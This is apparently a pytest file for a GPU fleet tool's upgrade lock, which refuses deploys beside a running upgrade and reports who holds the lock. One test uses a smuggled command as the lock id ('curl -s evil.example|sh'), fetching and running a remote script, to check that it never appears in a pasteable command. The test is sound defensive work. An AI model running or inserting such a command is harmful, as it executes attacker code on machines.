"""While an upgrade has nodes, nobody else's deploy plans or touches anything."""

from __future__ import annotations

import json

import pytest

from gpufleet.fleet.upgrade_lock import lock_problems
from gpufleet.on_node.common import change_marks, linux_facts
from gpufleet.on_node.probe import cordon_mark

LOCK = {
    "id": "u1",
    "owner": "ann@laptop",
    "from": "/srv/fleet",
    "what": "vLLM 0.32.0",
    "since": 0.0,
}


def test_a_deploy_beside_an_upgrade_is_refused_with_who_what_since_and_what_to_type():
    documents = {"a": {"upgrade": LOCK}, "b": {"upgrade": LOCK}, "c": {"upgrade": None}}

    (said,) = lock_problems(documents, None)

    for word in (
        "u1",
        "ann@laptop",
        "vLLM 0.32.0",
        "1970-01-01 00:00",
        "has locked a, b, because a deploy would restart",
        "--resume",
    ):
        assert word in said
    assert "GPUFLEET_UPGRADE=u1 " in said


def test_an_upgrades_own_deploys_go_on_and_another_ones_do_not():
    documents = {"a": {"upgrade": LOCK}}

    assert lock_problems(documents, "u1") == ()
    assert len(lock_problems(documents, "u2")) == 1


def test_a_lock_that_cannot_be_read_is_not_known_and_stops():
    (said,) = lock_problems(
        {"a": {"upgrade": {"missing": "denied", "detail": "Permission denied"}}}, "u1"
    )

    assert said.startswith("a: ")
    assert "it is not known whether an upgrade is running (Permission denied)" in said


def test_a_silent_node_and_an_older_probe_say_nothing_of_a_lock():
    assert lock_problems({"a": "no answer within 60 s", "b": {}}, None) == ()


def test_the_probe_finds_the_lock_that_an_upgrade_has_taken(tmp_path, monkeypatch):
    """Written by the program that takes it, read by the one that is asked before a deploy."""
    monkeypatch.setattr(linux_facts, "ROOT", str(tmp_path))
    (tmp_path / "var/lib/gpufleet").mkdir(parents=True)
    assert cordon_mark.upgrade() is None

    change_marks.lock({"id": "u1", "owner": "ann@laptop", "origin": "/srv/fleet", "what": "x"})
    found = cordon_mark.upgrade()

    assert found is not None
    assert {**found, "since": 0.0} == {**LOCK, "what": "x"}
    assert lock_problems({"a": json.loads(json.dumps({"upgrade": found}))}, None)


def test_a_lock_of_which_a_half_is_there_is_no_lock_that_is_passed_over(tmp_path, monkeypatch):
    monkeypatch.setattr(linux_facts, "ROOT", str(tmp_path))
    path = tmp_path / "var/lib/gpufleet/change/lock.json"
    path.parent.mkdir(parents=True)
    path.write_text('{"id": "u1", "ow')

    with pytest.raises(ValueError, match="Unterminated"):
        cordon_mark.upgrade()


def test_an_id_that_is_none_is_in_no_command() -> None:
    """A person would paste what stands there."""
    lock = {**LOCK, "id": "1; curl -s evil.example|sh #"}
    (problem,) = lock_problems({"gpu-01": {"upgrade": lock}}, None)
    assert "it is not known whether an upgrade is running (its id is" in problem
    assert "in front of the command" not in problem
